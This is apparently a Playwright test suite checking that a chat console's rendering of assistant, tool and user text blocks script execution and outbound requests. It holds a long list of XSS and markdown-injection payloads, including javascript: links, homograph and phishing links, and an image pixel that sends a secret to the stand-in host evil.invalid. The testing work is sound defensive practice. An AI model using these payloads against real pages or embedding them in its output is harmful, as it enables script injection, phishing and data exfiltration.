"""What a model, a tool or another person wrote never runs, and never makes the browser ask another machine."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

OpenTab = Callable[..., Any]

# Together in one process of a parallel run: starting the browser is the slow part.
pytestmark = pytest.mark.xdist_group("console_hostile")

EVIL = "https://evil.invalid"

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src='{EVIL}/a.png'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    f"<object data='{EVIL}/a.swf'></object>",
    f"<embed src='{EVIL}/a.swf'>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    f"<link rel=prefetch href='{EVIL}/a'>",
    f"<style>@import '{EVIL}/a.css'; * {{ background: url({EVIL}/b) }}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}'><input name=a><button>go</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<xss style='animation-name:pulse' onanimationstart=window.pwned=1>",
    "<p style='position:fixed;inset:0'>covered</p>",
    "</div></li></ol></main><script>window.pwned=1</script>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[><img src=x onerror=window.pwned=1>]]>",
    "<<img src=x onerror=window.pwned=1>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](\x01javascript:window.pwned=1)",
    "[click](<javascript:window.pwned=1>)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "[click](blob:https://evil.invalid/x)",
    "[click](file:///etc/passwd)",
    "[click](//evil.invalid/x)",
    "[click](/logout)",
    '[click](https://evil.invalid "onmouseover=window.pwned=1")',
    '[click](https://evil.invalid/"onmouseover="window.pwned=1)',
    "[https://bank.example](https://evil.invalid/login)",
    "[bank.example](https://bank.example@evil.invalid/)",
    "[a](https://evil.invalid/`<img src=x onerror=window.pwned=1>`)",
    "<javascript:window.pwned=1>",
    "<https://evil.invalid/?q=<script>window.pwned=1</script>>",
    "![x](https://evil.invalid/pixel.png?data=secret)",
    '![x"onerror="window.pwned=1](x)',
    "![x](javascript:window.pwned=1)",
    "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "[![x](https://evil.invalid/a.png)](https://evil.invalid/b)",
    "![x][ref]\n\n[ref]: https://evil.invalid/pixel.png",
    "[ref]: javascript:window.pwned=1\n\n[ref]",
    "```html\n<script>window.pwned=1</script>\n```",
    '```"onmouseover="window.pwned=1\ncode\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>pwned=1</script> | ![x](//evil.invalid/c) |",
    "> <img src=x onerror=window.pwned=1>",
    "- <img src=x onerror=window.pwned=1>",
    "# <img src=x onerror=window.pwned=1>",
    "**<img src=x onerror=window.pwned=1>**",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "\u202etxt.exe\u2066<script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "__proto__",
    "http://evil.invalid/\u0000<img src=x onerror=window.pwned=1>",
    "[" * 3000 + "](https://evil.invalid)",
    ">" * 3000 + " deep",
    "*" * 5000 + "a" + "_" * 5000,
]

FORBIDDEN = (
    "script, img, iframe, object, embed, link, style, meta, base, form, video, audio, source, math, template, svg, "
    "noscript, [style], [src], [srcdoc], [action], [onerror], [onload], [onclick]"
)


def assert_harmless(page: Page, where: str) -> None:
    region = page.locator(where)
    assert region.locator(FORBIDDEN).count() == 0
    assert page.evaluate("window.pwned") is None
    for link in region.locator("a").all():
        assert str(link.get_attribute("href")).startswith(("http://", "https://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"


def test_no_answer_runs_or_reaches_out(server: Any, open_tab: OpenTab) -> None:
    log = server.new_session()
    for number, payload in enumerate(PAYLOADS):
        server.say(log, payload, f"trn_{number}", user=payload)
    tab = open_tab(f"#/s/{log.id}")
    expect(tab.page.locator(".assistant")).to_have_count(len(PAYLOADS))
    # Handlers that wait for the pointer or the focus get their chance too.
    for link in tab.page.locator(".assistant a").all()[:10]:
        link.hover()
        link.focus()
    assert_harmless(tab.page, ".log")
    assert tab.page.locator(".assistant").first.inner_text() == PAYLOADS[0]
    assert len(PAYLOADS) >= 40


def test_an_answer_that_grows_letter_by_letter_is_as_harmless(server: Any, open_tab: OpenTab) -> None:
    log = server.new_session()
    server.begin(log)
    text = "\n\n".join(payload for payload in PAYLOADS if len(payload) < 200) + "\n\nThe end."
    tab = open_tab(f"#/s/{log.id}")
    for offset in range(0, len(text), 7):
        server.delta(log, text[offset : offset + 7], offset)
    expect(tab.page.locator(".assistant")).to_contain_text("The end.")
    assert_harmless(tab.page, ".log")


def test_no_other_text_runs_either(server: Any, open_tab: OpenTab) -> None:
    markup = f"<img src='{EVIL}/x' onerror=window.pwned=1><script>window.pwned=1</script>"
    log = server.new_session(title=markup)
    server.begin(log, user=markup)
    server.emit(log, "agent.switched", {"from": "ask", "to": markup})
    call = {"tool_call_id": "call_0", "tool": markup}
    server.emit(log, "tool.requested", {**call, "arguments": {markup: markup}, "risk": markup})
    server.emit(log, "tool.failed", {**call, "content": markup, "code": markup, "message": markup, "seconds": markup})
    server.emit(log, "message.delta", {"message_id": "msg_0", "reasoning": markup})
    server.ask_approval(
        log, {"command": markup, markup: 1}, preview=markup, reason=markup, tool=markup, risk=markup, code=markup
    )
    server.emit(log, "question.asked", {"question": markup, "options": [markup], "step": 1})
    error = {"code": markup, "message": markup, "mend": markup}
    tab = open_tab(f"#/s/{log.id}")
    expect(tab.page.locator(".question button")).to_have_text(markup)
    tab.page.get_by_role("button", name="Approve").click()
    expect(tab.page.locator(".approval h3")).to_have_text("Approved by owner")
    server.emit(log, "turn.failed", error)
    expect(tab.page.locator(".failure")).to_contain_text(markup)
    assert_harmless(tab.page, ".log")
    assert tab.page.evaluate("window.pwned") is None
    expect(tab.page.locator(".sessions a")).to_have_text(markup)


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[the docs](https://docs.invalid/x)", "the docs (docs.invalid)"),
        ("[https://good.invalid](https://evil.invalid/)", "https://good.invalid (evil.invalid)"),
        ("[good.invalid](https://good.invalid@evil.invalid/)", "good.invalid (evil.invalid)"),
        ("[docs.invalid/x](https://docs.invalid/x)", "docs.invalid/x"),
        ("https://docs.invalid/a_b_c.", "https://docs.invalid/a_b_c."),
        ("[mail](mailto:a@b.invalid)", "mail (a@b.invalid)"),
        ("[аррӏе.com](https://аррӏе.com)", "аррӏе.com (xn--80ak6aa92e.com)"),
        ("https://аррӏе.com/", "https://аррӏе.com/ (xn--80ak6aa92e.com)"),
        ("![a cat](https://evil.invalid/cat.png)", "Image: a cat (evil.invalid)"),
        ("[file](docs/index.md)", "file (docs/index.md)"),
    ],
)
def test_a_link_says_where_it_leads(server: Any, open_tab: OpenTab, markdown: str, shown: str) -> None:
    log = server.new_session()
    server.say(log, markdown)
    page = open_tab(f"#/s/{log.id}").page
    expect(page.locator(".assistant .markdown")).to_have_text(shown)


def test_invisible_characters_of_a_call_are_shown(server: Any, open_tab: OpenTab) -> None:
    log = server.new_session()
    server.begin(log)
    command = "ls\u202e\u200b\x1b[2K\x07\u2028 \U000e0041\u00a0\rend"
    server.ask_approval(log, {"command": command})
    page = open_tab(f"#/s/{log.id}").page
    shown = page.locator(".approval dd pre")
    expect(shown).to_have_text("lsU+202EU+200BESC[2KU+0007U+2028 U+E0041U+00A0CRend")
    page.get_by_text("As JSON").click()
    assert json.loads(page.locator(".exact pre").inner_text().replace("U+202E", "\u202e"))["command"].startswith("ls")


def test_the_page_allows_itself_no_foreign_code(server: Any, open_tab: OpenTab) -> None:
    tab = open_tab(may_complain=True)
    expect(tab.page.get_by_label("Message")).to_be_visible()
    tab.page.evaluate(
        "() => { const s = document.createElement('script'); try { s.text = 'window.pwned=1'; } catch {}"
        " document.body.append(s); }"
    )
    tab.page.evaluate(f"() => {{ const i = new Image(); i.src = '{EVIL}/x.png'; document.body.append(i); }}")
    tab.page.evaluate(f"() => fetch('{EVIL}/x').catch(() => null)")
    assert (
        tab.page.evaluate(
            "() => { try { document.body.innerHTML = '<b>x</b>'; return 'set'; } catch (e) { return e.name; } }"
        )
        == "TypeError"
    )
    assert tab.page.evaluate("window.pwned") is None
    assert tab.foreign == []
